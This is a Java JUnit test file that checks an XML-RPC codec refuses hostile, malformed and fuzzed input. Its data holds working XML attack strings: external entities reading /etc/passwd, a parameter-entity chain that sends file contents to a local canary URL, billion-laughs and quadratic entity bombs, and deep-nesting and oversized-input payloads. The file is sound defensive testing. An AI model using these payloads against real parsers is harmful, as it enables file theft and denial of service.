package io.farmroutes.spi.xmlrpc;

import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.time.LocalDateTime;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.concurrent.atomic.AtomicInteger;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

/**
 * Hostile, broken and random input: every case must end in an {@link XmlRpcFormatException} (or, for random
 * mutations that happen to stay valid, in a message), never in any other exception, a hang or a fetch.
 */
class XmlRpcHostileInputTest {

    private static final String SOURCE = "hostile";
    private static final String RESPONSE_HEAD = "<methodResponse><params><param><value>";
    private static final String RESPONSE_TAIL = "</value></param></params></methodResponse>";

    /** Counts every connection a parser might make on a document's behalf; it must stay at zero. */
    private static ServerSocket canary;
    private static final AtomicInteger CANARY_HITS = new AtomicInteger();
    private static Thread canaryThread;

    private final XmlRpcCodec codec = XmlRpcCodec.standard();

    @BeforeAll
    static void startCanary() throws IOException {
        canary = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
        canaryThread = new Thread(() -> {
            while (!canary.isClosed()) {
                try (Socket socket = canary.accept()) {
                    CANARY_HITS.incrementAndGet();
                    OutputStream out = socket.getOutputStream();
                    out.write(("HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\n\r\nLEAKED-CANARY")
                            .getBytes(StandardCharsets.US_ASCII));
                    out.flush();
                } catch (IOException closed) {
                    // the socket closes when the tests end
                }
            }
        }, "xmlrpc-canary");
        canaryThread.setDaemon(true);
        canaryThread.start();
    }

    @AfterAll
    static void stopCanary() throws Exception {
        canary.close();
        canaryThread.join(5_000);
    }

    private static String canaryUrl(String path) {
        return "http://127.0.0.1:" + canary.getLocalPort() + "/" + path;
    }

    /** Decodes and insists on exactly an XmlRpcFormatException. */
    private XmlRpcFormatException refused(byte[] body) {
        return refused(codec, body);
    }

    private static XmlRpcFormatException refused(XmlRpcCodec codec, byte[] body) {
        try {
            XmlRpcMessage message = codec.decode(body, null, SOURCE);
            fail("accepted " + message + " from " + XmlChars.excerpt(new String(body, StandardCharsets.ISO_8859_1), 120));
            return null;
        } catch (Throwable t) {
            if (t.getClass() != XmlRpcFormatException.class) {
                throw new AssertionError("expected an XmlRpcFormatException but got " + t, t);
            }
            XmlRpcFormatException e = (XmlRpcFormatException) t;
            assertEquals(SOURCE, e.getEndpoint());
            return e;
        }
    }

    private XmlRpcFormatException refused(String xml) {
        return refused(xml.getBytes(StandardCharsets.UTF_8));
    }

    private XmlRpcFormatException refusedValue(String valueContent) {
        return refused(RESPONSE_HEAD + valueContent + RESPONSE_TAIL);
    }

    /** Decodes and allows only a message or an XmlRpcFormatException; true when accepted. */
    private static boolean acceptedOrRefused(XmlRpcCodec codec, byte[] body) {
        try {
            codec.decode(body, null, SOURCE);
            return true;
        } catch (Throwable t) {
            if (t.getClass() != XmlRpcFormatException.class) {
                throw new AssertionError("expected an XmlRpcFormatException but got " + t + " for "
                        + XmlChars.excerpt(new String(body, StandardCharsets.ISO_8859_1), 200), t);
            }
            return false;
        }
    }

    // ---- entities and DTDs ----

    @Test
    void refusesExternalFileAndUrlEntities() {
        for (String system : List.of("file:///etc/passwd", "file:///c:/windows/win.ini", canaryUrl("entity"))) {
            XmlRpcFormatException e = refused("<?xml version=\"1.0\"?><!DOCTYPE methodResponse [<!ENTITY x SYSTEM \""
                    + system + "\">]>" + RESPONSE_HEAD + "<string>&x;</string>" + RESPONSE_TAIL);
            assertTrue(e.getProblem().contains("document type declarations are refused"), e.getProblem());
            assertFalse(e.getMessage().contains("root:") || e.getMessage().contains("LEAKED"), e.getMessage());
        }
        assertEquals(0, CANARY_HITS.get());
    }

    @Test
    void refusesParameterEntitiesAndExternalDtds() {
        List<String> doctypes = List.of(
                "<!DOCTYPE methodResponse [<!ENTITY % p SYSTEM \"" + canaryUrl("p.dtd") + "\"> %p;]>",
                "<!DOCTYPE methodResponse [<!ENTITY % p SYSTEM \"file:///etc/passwd\"><!ENTITY % w \"<!ENTITY x SYSTEM '"
                        + canaryUrl("?%p;") + "'>\"> %w;]>",
                "<!DOCTYPE methodResponse SYSTEM \"" + canaryUrl("external.dtd") + "\">",
                "<!DOCTYPE methodResponse PUBLIC \"-//Evil//DTD//EN\" \"" + canaryUrl("public.dtd") + "\">",
                "<!DOCTYPE methodResponse>");
        for (String doctype : doctypes) {
            XmlRpcFormatException e = refused(doctype + RESPONSE_HEAD + "ok" + RESPONSE_TAIL);
            assertTrue(e.getProblem().contains("document type declarations are refused"), e.getProblem());
        }
        assertEquals(0, CANARY_HITS.get());
    }

    @Test
    void refusesBillionLaughsAndQuadraticBlowup() {
        StringBuilder laughs = new StringBuilder("<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol0 \"lol\">");
        for (int i = 1; i <= 9; i++) {
            laughs.append("<!ENTITY lol").append(i).append(" \"").append(("&lol" + (i - 1) + ";").repeat(10)).append("\">");
        }
        laughs.append("]>").append(RESPONSE_HEAD).append("&lol9;").append(RESPONSE_TAIL);
        refused(laughs.toString());

        String quadratic = "<!DOCTYPE m [<!ENTITY a \"" + "a".repeat(50_000) + "\">]>" + RESPONSE_HEAD
                + "&a;".repeat(50_000) + RESPONSE_TAIL;
        XmlRpcFormatException e = refused(quadratic);
        assertTrue(e.getMessage().length() < 600, "message length " + e.getMessage().length());
    }

    @Test
    void refusesUndeclaredAndBrokenEntityReferences() {
        for (String value : List.of("&nbsp;", "&x;", "&#0;", "&#xFFFE;", "&#xD800;", "&#99999999;", "&amp", "& ", "&;")) {
            refusedValue("<string>" + value + "</string>");
        }
    }

    @Test
    void aDoctypeBehindAMalformedCommentIsStillNeverProcessed() {
        refused("<!-- sample --!<!DOCTYPE methodResponse SYSTEM \"" + canaryUrl("late.dtd") + "\">" + RESPONSE_HEAD
                + "x" + RESPONSE_TAIL);
        assertEquals(0, CANARY_HITS.get());
    }

    // ---- limits ----

    @Test
    void refusesNestingOneHundredThousandLevelsDeep() {
        int levels = 100_000;
        String array = RESPONSE_HEAD + "<array><data><value>".repeat(levels) + "</value></data></array>".repeat(levels)
                + RESPONSE_TAIL;
        assertTrue(refused(array).getProblem().contains("nested deeper than 64"));
        String struct = RESPONSE_HEAD + "<struct><member><name>n</name><value>".repeat(levels)
                + "</value></member></struct>".repeat(levels) + RESPONSE_TAIL;
        assertTrue(refused(struct).getProblem().contains("nested deeper than 64"));
        String elements = RESPONSE_HEAD + "<x>".repeat(levels) + "</x>".repeat(levels) + RESPONSE_TAIL;
        assertTrue(refused(elements).getProblem().contains("unknown value type <x>"));
    }

    @Test
    void refusesTwoMillionMembersAsMoreValuesThanAllowed() {
        byte[] head = (RESPONSE_HEAD + "<struct>").getBytes(StandardCharsets.US_ASCII);
        byte[] member = "<member><name/><value/></member>".getBytes(StandardCharsets.US_ASCII);
        byte[] tail = ("</struct>" + RESPONSE_TAIL).getBytes(StandardCharsets.US_ASCII);
        int members = 2_000_000;
        // built in place, one copy only
        byte[] body = new byte[head.length + members * member.length + tail.length];
        System.arraycopy(head, 0, body, 0, head.length);
        for (int i = 0; i < members; i++) {
            System.arraycopy(member, 0, body, head.length + i * member.length, member.length);
        }
        System.arraycopy(tail, 0, body, body.length - tail.length, tail.length);
        XmlRpcFormatException e = refused(body);
        assertTrue(e.getProblem().contains("more than 1000000 values"), e.getProblem());
    }

    @Test
    void refusesATwentyMegabyteString() {
        byte[] head = (RESPONSE_HEAD + "<string>").getBytes(StandardCharsets.US_ASCII);
        byte[] tail = ("</string>" + RESPONSE_TAIL).getBytes(StandardCharsets.US_ASCII);
        byte[] body = new byte[head.length + 20 * 1024 * 1024 + tail.length];
        System.arraycopy(head, 0, body, 0, head.length);
        Arrays.fill(body, head.length, body.length - tail.length, (byte) 'a');
        System.arraycopy(tail, 0, body, body.length - tail.length, tail.length);
        XmlRpcFormatException e = refused(body);
        assertTrue(e.getProblem().contains("longer than 16777216 characters"), e.getProblem());
        assertTrue(e.getMessage().length() < 600, "message length " + e.getMessage().length());
    }

    @Test
    void enforcesEachLimitExactlyAtItsBoundary() {
        XmlRpcCodec small = new XmlRpcCodec(new XmlRpcLimits(2, 4, 10));
        byte[] twoDeep = small.encode(new XmlRpcResponse(List.of(List.of("x"))));
        assertEquals(new XmlRpcResponse(List.of(List.of("x"))), small.decode(twoDeep, null, SOURCE));
        byte[] threeDeep = XmlRpcCodec.standard().encode(new XmlRpcResponse(List.of(List.of(List.of()))));
        assertTrue(refused(small, threeDeep).getProblem().contains("deeper than 2"));

        byte[] fourValues = small.encode(new XmlRpcResponse(List.of(1, 2, 3)));
        assertEquals(new XmlRpcResponse(List.of(1, 2, 3)), small.decode(fourValues, null, SOURCE));
        byte[] fiveValues = small.encode(new XmlRpcResponse(List.of(1, 2, 3, 4)));
        assertTrue(refused(small, fiveValues).getProblem().contains("more than 4 values"));

        byte[] tenChars = small.encode(new XmlRpcResponse("0123456789"));
        assertEquals(new XmlRpcResponse("0123456789"), small.decode(tenChars, null, SOURCE));
        for (String element : List.of("string", "base64", "int")) {
            byte[] eleven = (RESPONSE_HEAD + "<" + element + ">" + "0".repeat(11) + "</" + element + ">" + RESPONSE_TAIL)
                    .getBytes(StandardCharsets.US_ASCII);
            assertTrue(refused(small, eleven).getProblem().contains("longer than 10 characters"), element);
        }
        byte[] longName = (RESPONSE_HEAD + "<struct><member><name>" + "n".repeat(11) + "</name><value/></member>"
                + "</struct>" + RESPONSE_TAIL).getBytes(StandardCharsets.US_ASCII);
        assertTrue(refused(small, longName).getProblem().contains("<name> is longer than 10"));
        byte[] bareText = (RESPONSE_HEAD + "x".repeat(11) + RESPONSE_TAIL).getBytes(StandardCharsets.US_ASCII);
        refused(small, bareText);
    }

    @Test
    void repairWorstCasesStayLinearAndEndInRefusal() {
        int n = 200_000;
        refused("<methodResponse>" + "<!--".repeat(n));
        refused("<methodResponse>" + "<!-- --".repeat(n));
        refused("<methodResponse>" + ("<member>" + " ".repeat(8)).repeat(n));
        refused("<methodResponse>" + "<value>".repeat(n) + "</struct>");
        refused("<methodResponse>" + ("<value>" + " ".repeat(8) + "</struct>").repeat(n));
        refused("<methodResponse>" + "<![CDATA[".repeat(n));
        refused("<methodResponse>" + "<![CDATA[]]>".repeat(n) + "<!-- --!");
        refused("<methodResponse>" + "<member/>".repeat(n) + "<!-- --!");
    }

    // ---- charsets and characters ----

    @Test
    void refusesInvalidUtf8() {
        for (byte[] bad : List.of(new byte[] {(byte) 0xC3, 0x28}, new byte[] {(byte) 0xC0, (byte) 0xAF},
                new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, new byte[] {(byte) 0xF8, (byte) 0x88, (byte) 0x80},
                new byte[] {(byte) 0xFF}, new byte[] {(byte) 0xE2, (byte) 0x82})) {
            byte[] head = (RESPONSE_HEAD + "<string>").getBytes(StandardCharsets.US_ASCII);
            byte[] tail = ("</string>" + RESPONSE_TAIL).getBytes(StandardCharsets.US_ASCII);
            byte[] body = new byte[head.length + bad.length + tail.length];
            System.arraycopy(head, 0, body, 0, head.length);
            System.arraycopy(bad, 0, body, head.length, bad.length);
            System.arraycopy(tail, 0, body, head.length + bad.length, tail.length);
            XmlRpcFormatException e = refused(body);
            assertTrue(e.getProblem().contains("not valid UTF-8") && e.getProblem().contains("offset " + head.length),
                    e.getProblem());
        }
    }

    @Test
    void refusesUtf16WithoutAByteOrderMark() {
        String xml = RESPONSE_HEAD + "ok" + RESPONSE_TAIL;
        refused(xml.getBytes(StandardCharsets.UTF_16LE));
        refused(xml.getBytes(StandardCharsets.UTF_16BE));
        // a byte order mark followed by a broken surrogate pair is refused as well
        refused(new byte[] {(byte) 0xFF, (byte) 0xFE, '<', 0, 0x00, (byte) 0xD8, 'a', 0});
    }

    @Test
    void refusesNulAndOtherCharactersXmlForbids() {
        refusedValue("a\u0000b");
        refusedValue("<string>\u0001</string>");
        refusedValue("<string>\uFFFF</string>");
        refused("\u0000" + RESPONSE_HEAD + "x" + RESPONSE_TAIL);
        refused(RESPONSE_HEAD + "x" + RESPONSE_TAIL + "\u0000");
    }

    // ---- shape ----

    @Test
    void refusesMixedContent() {
        refusedValue("text<int>1</int>");
        refusedValue("<int>1</int>text");
        refusedValue("<struct>text<member><name>a</name><value/></member></struct>");
        refusedValue("<array>text<data/></array>");
        refusedValue("<array><data>text</data></array>");
        refusedValue("<int>1<b/></int>");
        refusedValue("<string>a<b>c</b></string>");
        refusedValue("<nil>x</nil>");
        refused("<methodResponse>text<params><param><value/></param></params></methodResponse>");
        refused("<methodResponse><params>x<param><value/></param></params></methodResponse>");
    }

    @Test
    void refusesWrongRootsTwoRootsAndTrailingContent() {
        for (String doc : List.of("<methodRespons><params/></methodRespons>", "<html><body>502</body></html>",
                "{\"faultCode\": 1}", "Service Unavailable", "<?xml version=\"1.0\"?>", "<!-- nothing -->",
                "<?pi only?>", "<![CDATA[x]]>",
                RESPONSE_HEAD + "1" + RESPONSE_TAIL + RESPONSE_HEAD + "2" + RESPONSE_TAIL,
                RESPONSE_HEAD + "1" + RESPONSE_TAIL + "trailing", RESPONSE_HEAD + "1" + RESPONSE_TAIL + "<x/>",
                "<methodCall><methodName>a</methodName></methodCall><methodCall/>")) {
            refused(doc);
        }
        assertTrue(refused("<html/>").getProblem().contains("not <methodCall> or <methodResponse>"));
    }

    @Test
    void refusesEmptyBodies() {
        refused(new byte[0]);
        refused((byte[]) null);
        refused("   \n\t");
        refused(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF});
    }

    @Test
    void refusesFaultsWithoutTheirMembers() {
        String code = "<member><name>faultCode</name><value><int>4</int></value></member>";
        String text = "<member><name>faultString</name><value>boom</value></member>";
        List<String> faults = List.of(
                "<fault><value><struct>" + text + "</struct></value></fault>",
                "<fault><value><struct>" + code + "</struct></value></fault>",
                "<fault><value><struct><member><name>faultCode</name><value>4</value></member>" + text
                        + "</struct></value></fault>",
                "<fault><value><struct><member><name>faultCode</name><value><double>4</double></value></member>"
                        + text + "</struct></value></fault>",
                "<fault><value><struct><member><name>faultCode</name><value><i8>4</i8></value></member>"
                        + text + "</struct></value></fault>",
                "<fault><value><struct>" + code + "<member><name>faultString</name><value><int>1</int></value>"
                        + "</member></struct></value></fault>",
                "<fault><value><struct>" + code + "<member><name>faultString</name><value><nil/></value>"
                        + "</member></struct></value></fault>",
                "<fault><value>just text</value></fault>",
                "<fault></fault>",
                "<fault><value><struct>" + code + text + "</struct></value><value/></fault>");
        for (String fault : faults) {
            refused("<methodResponse>" + fault + "</methodResponse>");
        }
    }

    @Test
    void refusesEnvelopesOfTheWrongShape() {
        for (String doc : List.of(
                "<methodResponse><params/></methodResponse>",
                "<methodResponse><params><param><value>1</value></param><param><value>2</value></param></params>"
                        + "</methodResponse>",
                "<methodResponse></methodResponse>",
                "<methodResponse><params><param><value>1</value></param></params><fault/></methodResponse>",
                "<methodResponse><params><param></param></params></methodResponse>",
                "<methodResponse><params><param><value>1</value><value>2</value></param></params></methodResponse>",
                "<methodResponse><params><value>1</value></params></methodResponse>",
                "<methodCall><params/></methodCall>",
                "<methodCall><methodName>  </methodName></methodCall>",
                "<methodCall><methodName>a</methodName><methodName>b</methodName></methodCall>",
                "<methodCall><methodName>a<b/></methodName></methodCall>",
                "<methodCall><methodName>a</methodName><params/><params/></methodCall>",
                RESPONSE_HEAD + "<struct><member><value/></member></struct>" + RESPONSE_TAIL,
                RESPONSE_HEAD + "<struct><member><name>a</name></member></struct>" + RESPONSE_TAIL,
                RESPONSE_HEAD + "<struct><member><name>a</name><name>b</name><value/></member></struct>" + RESPONSE_TAIL,
                RESPONSE_HEAD + "<struct><member><name>a</name><value/><value/></member></struct>" + RESPONSE_TAIL,
                RESPONSE_HEAD + "<struct><value/></struct>" + RESPONSE_TAIL,
                RESPONSE_HEAD + "<array><value/></array>" + RESPONSE_TAIL,
                RESPONSE_HEAD + "<array><data/><data/></array>" + RESPONSE_TAIL,
                RESPONSE_HEAD + "<int>1</int><int>2</int>" + RESPONSE_TAIL,
                RESPONSE_HEAD + "<float>1.0</float>" + RESPONSE_TAIL,
                RESPONSE_HEAD + "<Int>1</Int>" + RESPONSE_TAIL)) {
            refused(doc);
        }
    }

    @Test
    void refusesIntegersOutOfRangeOrNotIntegers() {
        for (String v : List.of("<int>2147483648</int>", "<i4>-2147483649</i4>", "<i8>9223372036854775808</i8>",
                "<boolean>99999999999</boolean>", "<int></int>", "<int>1.0</int>", "<int>0x10</int>", "<int>1e3</int>",
                "<int>\u0663</int>", "<int>--1</int>", "<int>+</int>", "<int>1 2</int>", "<boolean>yes</boolean>",
                "<boolean></boolean>", "<int>" + "9".repeat(100_000) + "</int>")) {
            refusedValue(v);
        }
        assertTrue(refusedValue("<int>2147483648</int>").getProblem().contains("out of the 32-bit range"));
    }

    @Test
    void refusesBadBase64() {
        for (String v : List.of("!!!!", "A", "QQ==QQ==", "QQ=\u00e9", "Q===")) {
            assertTrue(refusedValue("<base64>" + v + "</base64>").getProblem().contains("base64"), v);
        }
    }

    @Test
    void refusesBadDates() {
        for (String v : List.of("19981317T14:08:55", "19980230T00:00:00", "19980717T25:00:00", "19980717T14:60:00",
                "1998071714:08:55", "garbage", "", "19980717", "19980717T14:08:55+25:00", "98-07-17T14:08:55",
                "19980717T14:08:55.1234567890", "1".repeat(65), "19980717T14:08:55 Z")) {
            assertTrue(refusedValue("<dateTime.iso8601>" + v + "</dateTime.iso8601>").getProblem()
                    .contains("dateTime.iso8601"), v);
        }
    }

    @Test
    void refusesNonFiniteAndNonDecimalDoubles() {
        for (String v : List.of("NaN", "Infinity", "-Infinity", "1e999", "-1E400", "0x1p3", "1,5", "", "1.5d", "1.5f",
                ".", "-", "1e", "1e+", "1.2.3", "\u0661.5")) {
            assertTrue(refusedValue("<double>" + v + "</double>").getProblem().contains("double"), v);
        }
    }

    // ---- generated input ----

    /** Valid documents covering every type, the envelope kinds, and the repaired sample quirks. */
    private List<byte[]> validDocuments() {
        Map<String, Object> struct = new LinkedHashMap<>();
        struct.put("413", Map.of("title", "Sintel & <Bunny>", "submitTimestamp", 1_300_000_000));
        struct.put("ok", true);
        struct.put("ratio", -0.125);
        struct.put("when", LocalDateTime.of(1998, 7, 17, 14, 8, 55));
        struct.put("blob", new byte[] {1, 2, 3, 4, 5});
        struct.put("list", List.of(1, "two é", List.of(), Map.of()));
        List<byte[]> docs = new ArrayList<>();
        docs.add(codec.encode(new XmlRpcResponse(struct)));
        docs.add(codec.encode(new XmlRpcCall("community.getSession", List.of(Map.of("oauth_nonce", "abc"), 413))));
        docs.add(codec.encode(new XmlRpcFault(104, "Invalid signature")));
        docs.add(("<?xml version=\"1.0\" encoding=\"utf-16\"?>\n<methodResponse><params><param><value><struct>\n"
                + "<member><name>accept</name><!-- waiting --!\n<value></struct></value></member>\n"
                + "<member><name>active</name><value><struct><member>\n<member><name>413</name><value><i4>7</i4>"
                + "</value></member><member/></struct></value></member>\n"
                + "<member><name>userId</name><value><boolean>888</boolean></value></member>\n"
                + "<member><name>gone</name><value><ex:nil/></value></member>\n"
                + "</struct></value></param></params></methodResponse>").getBytes(StandardCharsets.US_ASCII));
        for (byte[] doc : docs) {
            assertTrue(acceptedOrRefused(codec, doc), () -> "fixture must be valid: " + new String(doc, StandardCharsets.UTF_8));
        }
        return docs;
    }

    @Test
    void refusesEveryTruncationOfValidDocuments() {
        int cases = 0;
        for (byte[] doc : validDocuments()) {
            int rootEnd = lastIndexOf(doc, (byte) '>') + 1;
            for (int length = 0; length < doc.length; length++) {
                byte[] prefix = Arrays.copyOf(doc, length);
                if (length < rootEnd) {
                    refused(prefix);
                } else {
                    // only trailing whitespace was cut: still the whole document
                    assertTrue(acceptedOrRefused(codec, prefix));
                }
                cases++;
            }
        }
        assertTrue(cases > 1_000, "cases " + cases);
    }

    private static int lastIndexOf(byte[] bytes, byte b) {
        for (int i = bytes.length - 1; i >= 0; i--) {
            if (bytes[i] == b) {
                return i;
            }
        }
        return -1;
    }

    @Test
    void survivesTwentyThousandRandomByteFlips() {
        Random random = new Random(20_240_611L);
        List<byte[]> docs = validDocuments();
        int accepted = 0;
        int refused = 0;
        for (int i = 0; i < 20_000; i++) {
            byte[] mutated = docs.get(random.nextInt(docs.size())).clone();
            int flips = 1 + random.nextInt(3);
            for (int f = 0; f < flips; f++) {
                int at = random.nextInt(mutated.length);
                mutated[at] = random.nextBoolean() ? (byte) random.nextInt(256) : (byte) (mutated[at] ^ (1 << random.nextInt(8)));
            }
            if (acceptedOrRefused(codec, mutated)) {
                accepted++;
            } else {
                refused++;
            }
        }
        // both outcomes occur: flips inside text stay valid, flips in markup do not
        assertTrue(accepted > 100 && refused > 8_000, "accepted " + accepted + ", refused " + refused);
    }

    @Test
    void refusesRandomGarbageAndSurvivesRandomMarkupSoup() {
        Random random = new Random(42L);
        for (int i = 0; i < 2_000; i++) {
            byte[] garbage = new byte[random.nextInt(400)];
            random.nextBytes(garbage);
            refused(garbage);
        }
        String[] tokens = {"<methodResponse>", "</methodResponse>", "<methodCall>", "<methodName>", "</methodName>",
                "<params>", "</params>", "<param>", "</param>", "<value>", "</value>", "<struct>", "</struct>",
                "<member>", "</member>", "<member/>", "<name>", "</name>", "<array>", "<data>", "</data>", "</array>",
                "<int>", "</int>", "<i8>", "<boolean>", "</boolean>", "<double>", "<base64>", "<dateTime.iso8601>",
                "<nil/>", "<fault>", "</fault>", "<!--", "-->", "--!", "<![CDATA[", "]]>", "&amp;", "&lt;", "&#0;",
                "&x;", "<!DOCTYPE x>", "<?xml version=\"1.0\"?>", "1", "-7", "abc", " ", "\n", "faultCode",
                "faultString", "\u00e9", "\uD83C\uDFAC", "<", ">", "/", "=", "\"", "<string>", "</string>"};
        int accepted = 0;
        for (int i = 0; i < 3_000; i++) {
            StringBuilder soup = new StringBuilder();
            int count = random.nextInt(40);
            for (int t = 0; t < count; t++) {
                soup.append(tokens[random.nextInt(tokens.length)]);
            }
            if (acceptedOrRefused(codec, soup.toString().getBytes(StandardCharsets.UTF_8))) {
                accepted++;
            }
        }
        assertTrue(accepted < 3_000, "accepted " + accepted);
    }

    @Test
    void theSameInstanceIsSafeToShareAcrossThreads() throws Exception {
        byte[] doc = validDocuments().get(0);
        XmlRpcMessage expected = codec.decode(doc, null, SOURCE);
        List<Thread> threads = new ArrayList<>();
        List<Throwable> failures = java.util.Collections.synchronizedList(new ArrayList<>());
        for (int t = 0; t < 4; t++) {
            Thread thread = new Thread(() -> {
                try {
                    for (int i = 0; i < 300; i++) {
                        XmlRpcMessage message = codec.decode(doc, null, SOURCE);
                        if (!(message instanceof XmlRpcResponse r) || !(r.value() instanceof Map<?, ?> m)
                                || !m.keySet().equals(((Map<?, ?>) ((XmlRpcResponse) expected).value()).keySet())) {
                            throw new AssertionError("different result: " + message);
                        }
                    }
                } catch (Throwable e) {
                    failures.add(e);
                }
            });
            threads.add(thread);
            thread.start();
        }
        for (Thread thread : threads) {
            thread.join();
        }
        assertEquals(0, failures.size(), () -> "failures: " + failures);
    }
}
